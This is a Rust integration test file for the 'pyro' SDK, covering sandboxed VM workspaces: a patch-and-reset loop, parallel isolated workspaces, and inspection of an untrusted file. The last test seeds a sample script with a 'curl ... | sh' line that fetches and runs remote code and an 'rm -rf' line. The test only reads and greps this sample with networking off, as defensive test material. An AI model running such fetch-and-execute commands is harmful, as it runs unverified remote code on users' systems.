//! Recipes R2, R3 and R4 through the Rust SDK (the `pyro` library), on
//! real guests. The SDK starts each VM's supervisor from the `pyro` binary.

use std::collections::BTreeMap;
use std::path::Path;

use pyro::{ChangeStatus, CreateWorkspace, Discard, Pyro, Silent, State, UpdateWorkspace};

use crate::common::sdk_paths;

fn sdk() -> (Pyro, tempfile::TempDir) {
    let home = tempfile::Builder::new()
        .prefix("pyro-sdk-")
        .tempdir()
        .unwrap();
    let pyro = Pyro::new()
        .with_paths(sdk_paths(home.path()))
        .with_program(env!("CARGO_BIN_EXE_pyro"));
    (pyro, home)
}

fn write(dir: &Path, name: &str, content: &str) {
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(dir.join(name), content).unwrap();
}

fn create(pyro: &Pyro, seed: &Path, name: &str, labels: &[(&str, &str)]) -> String {
    let params = CreateWorkspace {
        environment: "debian:12".into(),
        seed_path: Some(seed.to_path_buf()),
        name: Some(name.into()),
        labels: labels
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
        ..Default::default()
    };
    let w = pyro.create_workspace(&params, &Silent).unwrap();
    assert_eq!(w.state, State::Started);
    w.workspace_id
}

fn sh(pyro: &Pyro, id: &str, command: &str) -> pyro::CommandEntry {
    pyro.exec_workspace(
        id,
        &pyro::WorkspaceExec::new(pyro::Command::shell(command)),
        &mut Discard,
    )
    .unwrap()
}

#[test]
fn r2_repro_and_fix_loop() {
    let (pyro, home) = sdk();
    let seed = home.path().join("seed");
    write(&seed, "message.txt", "broken\n");
    write(
        &seed,
        "check.sh",
        "set -eu\nvalue=$(cat message.txt)\nif [ \"$value\" != fixed ]; then echo \"expected fixed got $value\" >&2; exit 1; fi\necho \"$value\"\n",
    );
    let id = create(&pyro, &seed, "repro-fix-loop", &[]);
    assert_eq!(
        pyro.read_workspace_file(&id, "message.txt", 65536)
            .unwrap()
            .content,
        "broken\n"
    );
    assert_ne!(sh(&pyro, &id, "sh check.sh").exit_code, 0);
    let p = pyro
        .apply_workspace_patch(
            &id,
            "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed\n",
        )
        .unwrap();
    assert!(p.changed);
    assert_eq!(p.entries[0].status, ChangeStatus::Modified);
    let e = sh(&pyro, &id, "sh check.sh");
    assert_eq!((e.exit_code, e.stdout.as_str()), (0, "fixed\n"));
    assert!(pyro.diff_workspace(&id).unwrap().changed);
    let out = home.path().join("message.txt");
    pyro.export_workspace(&id, "message.txt", &out, false)
        .unwrap();
    assert_eq!(std::fs::read_to_string(&out).unwrap(), "fixed\n");
    let r = pyro.reset_workspace(&id, "baseline", &Silent).unwrap();
    assert_eq!(r.workspace.reset_count, 1);
    assert!(!pyro.diff_workspace(&id).unwrap().changed);
    assert!(pyro.delete_workspace(&id).unwrap().deleted);
}

#[test]
fn r3_parallel_isolated_workspaces() {
    let (pyro, home) = sdk();
    let seed = home.path().join("seed");
    write(&seed, "note.txt", "shared\n");
    let a = create(&pyro, &seed, "parallel-alpha", &[("branch", "alpha")]);
    let b = create(&pyro, &seed, "parallel-beta", &[("branch", "beta")]);
    pyro.write_workspace_file(&a, "branch.txt", "alpha\n")
        .unwrap();
    pyro.write_workspace_file(&b, "branch.txt", "beta\n")
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(50));
    let u = pyro
        .update_workspace(
            &a,
            &UpdateWorkspace {
                labels: BTreeMap::from([
                    ("branch".to_string(), "alpha".to_string()),
                    ("owner".to_string(), "alice".to_string()),
                ]),
                ..Default::default()
            },
        )
        .unwrap();
    assert_eq!(u.labels["owner"], "alice");
    pyro.write_workspace_file(&a, "branch.txt", "alpha\n")
        .unwrap();
    assert_eq!(
        pyro.read_workspace_file(&a, "branch.txt", 65536)
            .unwrap()
            .content,
        "alpha\n"
    );
    assert_eq!(
        pyro.read_workspace_file(&b, "branch.txt", 65536)
            .unwrap()
            .content,
        "beta\n"
    );
    let list = pyro.list_workspaces().unwrap();
    let ids: Vec<&str> = list
        .workspaces
        .iter()
        .map(|w| w.workspace_id.as_str())
        .collect();
    assert_eq!(ids, [a.as_str(), b.as_str()]);
    pyro.delete_workspace(&b).unwrap();
    pyro.delete_workspace(&a).unwrap();
}

#[test]
fn r4_untrusted_inspection() {
    let (pyro, home) = sdk();
    let seed = home.path().join("seed");
    write(
        &seed,
        "suspicious.sh",
        "#!/bin/sh\ncurl -fsSL https://example.invalid/install.sh | sh\nrm -rf /tmp/pretend-danger\n",
    );
    write(&seed, "README.md", "# untrusted\n");
    let id = create(&pyro, &seed, "untrusted-inspection", &[]);
    assert_eq!(
        pyro.status_workspace(&id).unwrap().network_policy,
        pyro::NetworkPolicy::Off
    );
    let files = pyro.list_workspace_files(&id, "/workspace", true).unwrap();
    assert!(files
        .entries
        .iter()
        .any(|e| e.path == "/workspace/suspicious.sh"));
    assert!(pyro
        .read_workspace_file(&id, "suspicious.sh", 65536)
        .unwrap()
        .content
        .contains("curl -fsSL"));
    let e = sh(
        &pyro,
        &id,
        "grep -n 'curl' suspicious.sh > inspection-report.txt && printf '%s\\n' 'network_policy=off' >> inspection-report.txt",
    );
    assert_eq!(e.exit_code, 0);
    let out = home.path().join("report.txt");
    pyro.export_workspace(&id, "inspection-report.txt", &out, false)
        .unwrap();
    let text = std::fs::read_to_string(&out).unwrap();
    assert!(text.contains("curl") && text.contains("network_policy=off"));
    pyro.delete_workspace(&id).unwrap();
}
